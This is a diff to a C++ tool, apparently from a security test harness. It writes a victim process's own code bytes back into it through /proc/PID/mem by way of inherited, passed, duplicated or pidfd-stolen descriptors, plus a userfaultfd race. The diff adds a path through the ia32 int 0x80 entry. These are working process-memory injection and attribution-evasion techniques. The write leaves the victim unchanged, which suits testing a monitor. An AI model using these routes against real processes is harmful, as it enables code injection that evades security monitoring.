@@ -1,13 +1,15 @@
 // Writes into the victim's memory through a memory-file descriptor, however the writer got it:
 // reads N bytes of the victim's code and writes the same bytes back (the victim is unchanged).
 //   write_mem_fd PID [--via self|inherit|scm|dup|pidfd|swap] [--call C] [--bytes N] [--addr A]
+//                    [--ia32]
 // --via self:    this process opens /proc/PID/mem O_RDWR and writes
 //       inherit: this process opens it and forks; the child writes through the inherited copy
 //       scm:     a child forked before the open receives the descriptor over a unix socket
 //                (SCM_RIGHTS) and writes; it never opened anything nor inherited it
 //       dup:     dup2 onto descriptor 77, the original closed, writes through 77
 //       pidfd:   a child opens it; this process takes it with pidfd_getfd(2) and writes, so the
-//                opener never writes and the writer never opened
+//                opener never writes and the writer never opened; --ia32: pidfd_getfd through
+//                the ia32 entry (int 0x80)
 //       swap:    writes from a page that userfaultfd holds back; while the kernel waits for it,
 //                a second thread dup2()s /dev/null onto the descriptor, then lets the write
 //                finish: the table shows /dev/null when the write returns (pwrite only)
@@ -39,10 +41,24 @@ struct Plan {
   uint64_t addr;
   std::size_t bytes;
   std::string call;
+  bool ia32 = false;
 };
 
 void seek_to(int fd, uint64_t addr) {
   if (lseek(fd, static_cast<off_t>(addr), SEEK_SET) == static_cast<off_t>(-1)) attack::die("lseek");
+}
+
+// pidfd_getfd(2) (438 in every ABI), through int 0x80 when `ia32`.
+int take_fd(int pidfd, int remote_fd, bool ia32) {
+  if (!ia32) return static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, remote_fd, 0));
+  long ret;
+  __asm__ volatile("int $0x80"
+                   : "=a"(ret)
+                   : "a"(438L), "b"(static_cast<long>(pidfd)), "c"(static_cast<long>(remote_fd)),
+                     "d"(0L)
+                   : "r8", "r9", "r10", "r11", "memory");
+  if (ret < 0) errno = static_cast<int>(-ret);
+  return ret < 0 ? -1 : static_cast<int>(ret);
 }
 
 long write_ia32(int fd, const void* buf, std::size_t n) {
@@ -148,6 +164,7 @@ struct Outcome {
   pid_t writer = 0;
   pid_t opener = 0;
   int fd = -1;  // the descriptor number the writer wrote through
+  int remote_fd = -1;  // pidfd: the number taken from the opener
 };
 
 // A child opens the memory file and waits; this process takes the descriptor and writes.
@@ -167,14 +184,14 @@ Outcome steal_with_pidfd(const Plan& plan) {
   if (read(to_parent[0], &remote_fd, sizeof(remote_fd)) != sizeof(remote_fd)) attack::die("read fd number");
   int pidfd = static_cast<int>(syscall(SYS_pidfd_open, opener, 0));
   if (pidfd < 0) attack::die("pidfd_open");
-  int fd = static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, remote_fd, 0));
+  int fd = take_fd(pidfd, remote_fd, plan.ia32);
   if (fd < 0) attack::die("pidfd_getfd");
   write_through(fd, plan, read_back(fd, plan));
   if (write(to_child[1], "x", 1) != 1) attack::die("release the opener");
   wait_ok(opener);
   close(fd);
   close(pidfd);
-  return {getpid(), opener, fd};
+  return {getpid(), opener, fd, remote_fd};
 }
 
 // The write's source page is missing and registered with userfaultfd: the kernel's copy from it
@@ -270,9 +287,11 @@ Outcome run(const std::string& via, const Plan& plan) {
 
 int main(int argc, char** argv) {
   attack::Args args = attack::parse_args(
-      argc, argv, true, "PID [--via self|inherit|scm|dup|pidfd|swap] [--call C] [--bytes N] [--addr A]");
+      argc, argv, true,
+      "PID [--via self|inherit|scm|dup|pidfd|swap] [--call C] [--bytes N] [--addr A] [--ia32]");
   Plan plan{args.pid, args.number("addr", attack::find_exe_mapping(args.pid, "r-x")),
-            static_cast<std::size_t>(args.number("bytes", 16)), args.get("call", "pwrite")};
+            static_cast<std::size_t>(args.number("bytes", 16)), args.get("call", "pwrite"),
+            args.has("ia32")};
   if (!plan.addr) attack::die("no code mapping found in the target");
   if (plan.bytes < 2 || plan.bytes > 4096) attack::die("--bytes must be 2..4096");
   std::string via = args.get("via", "self");
@@ -283,6 +302,7 @@ int main(int argc, char** argv) {
       .add_number("opener_pid", o.opener)
       .add_number("target_pid", plan.target)
       .add_number("fd", o.fd)
+      .add_number("remote_fd", o.remote_fd)
       .add_string("via", via)
       .add_string("call", plan.call)
       .add_number("addr", static_cast<long long>(plan.addr))
